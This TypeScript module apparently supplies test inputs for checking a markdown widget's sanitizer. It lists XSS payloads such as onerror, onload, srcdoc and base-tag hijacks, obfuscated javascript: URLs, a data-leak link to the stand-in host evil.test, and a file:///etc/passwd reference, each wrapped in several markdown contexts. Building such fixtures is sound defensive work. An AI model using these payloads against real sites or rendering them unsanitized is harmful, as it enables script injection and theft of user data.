const URLS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.test/x",
  "/\\evil.test/x",
  "/\t/evil.test/x",
  "https://evil.test/?leak=secret",
  "file:///etc/passwd",
  "blob:https://evil.test/1",
];

const LINKS = URLS.flatMap((url) => [
  `[click](${url})`,
  `![image](${url})`,
  `[![both](${url})](${url})`,
  `<${url}>`,
  `[ref]\n\n[ref]: ${url}`,
  `![ref][1]\n\n[1]: ${url}`,
  `[1](${url})`,
  `[1]: ${url}`,
  `**[bold](${url})**`,
  `- [item](${url})`,
  url,
]);

const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import url(https://evil.test/x.css)</style>",
  "<link rel=prefetch href=https://evil.test/x>",
  "<base href=https://evil.test/>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=https://evil.test><button>go</button></form>",
  "<object data=javascript:alert(1)>",
  "<img srcset='https://evil.test/x 1x'>",
  "<!--<img src=x onerror=alert(1)>-->",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
];

const PLACES = (payload: string) => [
  payload,
  `**${payload}**`,
  `\`${payload}\``,
  `\`\`\`html\n${payload}\n\`\`\`\nafter`,
  `\`\`\`${payload}\ncode\n\`\`\``,
  `# ${payload}`,
  `1. ${payload}\n   - ${payload}`,
  `text *${payload}* [1] ${payload}`,
];

/** What a hostile document or model would like the widget to render. */
export const PAYLOADS = [...LINKS, ...HTML.flatMap(PLACES), ...URLS.flatMap(PLACES)];
export const HOSTILE_URLS = URLS.filter((url) => !url.startsWith("https:"));
